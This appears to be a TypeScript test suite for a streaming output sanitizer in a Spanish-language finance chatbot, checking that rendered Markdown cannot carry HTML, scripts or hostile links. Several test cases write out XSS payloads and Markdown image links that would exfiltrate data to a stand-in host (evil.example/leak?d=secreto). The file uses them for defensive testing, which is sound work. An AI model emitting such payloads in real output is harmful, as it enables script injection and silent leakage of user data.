import fc from 'fast-check';
import { marked } from 'marked';
import { PiiMasker, PiiVault } from '../../privacy/pii-masker';
import { MARKDOWN_PAYLOADS, XSS_PAYLOADS } from './output-sanitizer.corpus';
import { outputSanitizer, sanitizeOutput } from './output-sanitizer';
import { placeholderRestorer } from './placeholder-restorer';
import { chain, StreamTransform } from './stream-transform';

const streamAll = (t: StreamTransform, parts: string[]) =>
  parts.map((p) => t.push(p)).join('') + t.flush();
const splitEvery = (s: string, n: number) => s.match(new RegExp(`[\\s\\S]{1,${n}}`, 'g')) ?? [];
const splitAt = (s: string, cuts: number[]) => {
  const points = [0, ...[...new Set(cuts)].sort((a, b) => a - b), s.length];
  return points.slice(1).map((p, i) => s.slice(points[i], p));
};

const decode = (s: string) =>
  s
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');

const uriDecode = (s: string) => {
  try {
    return decodeURI(s);
  } catch {
    return s;
  }
};

const PLAIN_TAGS = new Set(
  'p em strong del code pre ul ol li blockquote h1 h2 h3 h4 h5 h6 hr br table thead tbody tr th td'.split(
    ' ',
  ),
);

/**
 * Why the HTML a Markdown client would render from `output` is unsafe, or null. The client is
 * played by marked's full parser with raw HTML on: the strictest reader there is. Safe means
 * only the tags plain Markdown produces, no attributes but table alignment, list starts and
 * task-list boxes, and links only where the visible text is the address itself (bare URLs).
 */
function unsafeIn(output: string): string | null {
  const html = marked.parse(output, { gfm: true, async: false });
  for (const m of html.matchAll(/<\/?([a-zA-Z][\w:-]*)([^>]*)>/g)) {
    const [tag, name, attrs] = [m[0], m[1].toLowerCase(), m[2].trim()];
    if (tag.startsWith('</')) continue;
    if (PLAIN_TAGS.has(name)) {
      if (
        attrs === '' ||
        /^(align="(left|right|center)"|start="\d+"|class="language-[^"]*")$/.test(attrs)
      )
        continue;
      return `attributes on ${tag}`;
    }
    if (name === 'input' && /^(checked="" )?disabled="" type="checkbox"$/.test(attrs)) continue;
    if (name === 'a') {
      const link = /^href="([^"]*)">([^<]*)<\/a>/.exec(
        html.slice(m.index + tag.length - attrs.length - 1),
      );
      const href = link && uriDecode(decode(link[1]));
      const text = link && decode(link[2]);
      if (
        href &&
        text &&
        /^(https?:|mailto:)/i.test(href) &&
        [text, `mailto:${text}`, `http://${text}`].includes(href)
      )
        continue;
      return `link ${tag}`;
    }
    return `tag ${tag}`;
  }
  return null;
}

const CONTEXTS: ((p: string) => string)[] = [
  (p) => p,
  (p) => `Mirá esto: ${p} y seguimos.`,
  (p) => `Resumen de tu cuenta\n\n- uno\n- ${p}\n\nFin.`,
  (p) => `> cita\n> ${p}`,
  (p) => `**Importante**: ${p}`,
];
const PAYLOADS = [...XSS_PAYLOADS, ...MARKDOWN_PAYLOADS];
const CASES = PAYLOADS.flatMap((p) => CONTEXTS.map((c) => c(p)));

describe('sanitizeOutput', () => {
  it.each([
    ['Hola <b>mundo</b>', 'Hola &lt;b>mundo&lt;/b>'],
    ['antes<script>alert(1)</script>después', 'antes&lt;script>alert(1)&lt;/script>después'],
    ['<scr<b>ipt>alert(1)</scr<b>ipt>', '&lt;scr&lt;b>ipt>alert(1)&lt;/scr&lt;b>ipt>'],
    ['<img alt="<" src=x onerror=alert(1)>', '&lt;img alt="<" src=x onerror=alert(1)>'],
    ['<!-- oculto -->visible', '&lt;!-- oculto -->visible'],
    ['mirá ![gráfico](https://evil.example/leak?d=secreto) acá', 'mirá gráfico acá'],
    ['mirá ![gráfico](https://evil.example/p.png "título") acá', 'mirá gráfico acá'],
    ['mirá ![gráfico](\nhttps://evil.example/p.png\n"título") acá', 'mirá gráfico acá'],
    [
      'mirá ![gráfico][1] acá\n\n[1]: https://evil.example/p.png',
      'mirá gráfico acá\n\n\\[1]: https://evil.example/p.png',
    ],
    ['ver [la fuente](https://evil.example) hoy', 'ver la fuente hoy'],
    ['[click](javascript:alert(1))', 'click'],
    ['[clic]![](x)(https://evil.example)', 'clic'],
    ['<[clic](javascript:alert(1))> ok', '&lt;clic> ok'],
  ])('neutralises %p', (input, expected) => {
    expect(sanitizeOutput(input)).toBe(expected);
  });

  it.each([
    'si el dólar < 1000 y el MERVAL > 2000',
    'Los bonos [AL30, GD30] y la nota [1]',
    '¡Atención! Subió 5%',
    'S&P 500 y AT&T',
    '**Negrita**, _cursiva_ y `código`\n\n- uno\n- dos\n\n1. tres',
    '| bono | TIR |\n|---|---|\n| AL30 | 12% |',
    'Fuente: https://www.bcra.gob.ar/ y www.indec.gob.ar',
    'Escribinos a ayuda@banco.com.ar',
    '> cita de un informe\n\n# Título\n\n---',
    'a <= b, c >= d, 3 < 4',
  ])('leaves ordinary Markdown %p alone', (input) => {
    expect(sanitizeOutput(input)).toBe(input);
  });
});

describe('the hostile corpus', () => {
  it('has hundreds of cases from both classes', () => {
    expect(XSS_PAYLOADS.length).toBeGreaterThanOrEqual(100);
    expect(MARKDOWN_PAYLOADS.length).toBeGreaterThanOrEqual(60);
    expect(CASES.length).toBeGreaterThanOrEqual(500);
  });

  it('renders unsafely without the sanitizer (the oracle can tell)', () => {
    const unsafe = CASES.filter((c) => unsafeIn(c) !== null).length;
    expect(unsafe / CASES.length).toBeGreaterThan(0.8);
  });

  it.each(PAYLOADS)(
    'neutralises %p whole, split in two at every position and one character at a time',
    (text) => {
      const whole = sanitizeOutput(text);
      expect(unsafeIn(whole)).toBeNull();
      expect(streamAll(outputSanitizer(), [text])).toBe(whole);
      for (let i = 1; i < text.length; i++) {
        const out = streamAll(outputSanitizer(), [text.slice(0, i), text.slice(i)]);
        expect([i, unsafeIn(out)]).toEqual([i, null]);
      }
      expect(unsafeIn(streamAll(outputSanitizer(), splitEvery(text, 1)))).toBeNull();
    },
  );

  it.each(CASES.filter((c) => !PAYLOADS.includes(c)))(
    'neutralises %p in context, whole, at a few splits and one character at a time',
    (text) => {
      expect(unsafeIn(sanitizeOutput(text))).toBeNull();
      for (const n of [1, 2, 3, 5, 8, 13, 21]) {
        expect([n, unsafeIn(streamAll(outputSanitizer(), splitEvery(text, n)))]).toEqual([n, null]);
      }
    },
  );

  it('neutralises random payloads in random splits (property)', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.constantFrom(
            ...PAYLOADS,
            ...[
              ' texto ',
              '\n',
              '\n\n',
              '[',
              ']',
              '(',
              ')',
              '!',
              '<',
              '> ',
              '- ',
              '*',
              '`',
              '\\',
              '|',
            ],
          ),
          { minLength: 1, maxLength: 8 },
        ),
        fc.array(fc.nat(), { maxLength: 12 }),
        (pieces, rawCuts) => {
          const text = pieces.join('');
          const cuts = rawCuts.map((c) => c % (text.length + 1));
          expect(unsafeIn(streamAll(outputSanitizer(), splitAt(text, cuts)))).toBeNull();
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe('streaming', () => {
  const hostile =
    'Texto <script>robar()</script>y ![img](https://x.example/a.png) y [link](https://y.example) <i>fin</i> [x](javascript:alert(1)).';

  it.each([1, 2, 3, 5, 7, 13])('gives the same result when split every %i characters', (n) => {
    expect(streamAll(outputSanitizer(), splitEvery(hostile, n))).toBe(sanitizeOutput(hostile));
  });

  it('restores placeholders split across deltas, then sanitises', () => {
    const masker = new PiiMasker();
    const vault = new PiiVault();
    masker.mask('mi CUIT 20-05536168-2', vault);
    const t = chain(placeholderRestorer(masker, vault), outputSanitizer());
    expect(streamAll(t, ['Tu CUIT es [CU', 'IT_', '1] <b>ok</b>'])).toBe(
      'Tu CUIT es 20-05536168-2 &lt;b>ok&lt;/b>',
    );
  });

  it('does not hold plain text back', () => {
    const t = outputSanitizer();
    expect(t.push('Hola, ')).toBe('Hola, ');
    expect(t.push('¿cómo va?')).toBe('¿cómo va?');
    expect(t.push(' Los bonos [AL30] rinden')).toBe(' Los bonos [AL30] rinden');
  });

  it('holds back only from an unsettled bracket, and releases it once settled', () => {
    const t = outputSanitizer();
    expect(t.push('Mirá [la fuente')).toBe('Mirá ');
    expect(t.push('](https://evil.example "t")')).toBe('la fuente');
    expect(t.push(' y listo')).toBe(' y listo');
  });

  it('never lets a reference definition form across deltas', () => {
    const out = streamAll(outputSanitizer(), [
      '![a][1] texto\n\n[1',
      ']',
      ': https://evil.example/p.png',
    ]);
    expect(unsafeIn(out)).toBeNull();
    expect(out).toContain('\\[1]:');
  });

  it('escapes a link that stays unsettled for too long instead of holding the answer', () => {
    const t = outputSanitizer();
    const long = `[${'a'.repeat(3000)}`;
    const early = t.push(long);
    expect(early.length).toBeGreaterThan(2000);
    const out = early + t.push('](https://evil.example)') + t.flush();
    expect(unsafeIn(out)).toBeNull();
  });
});
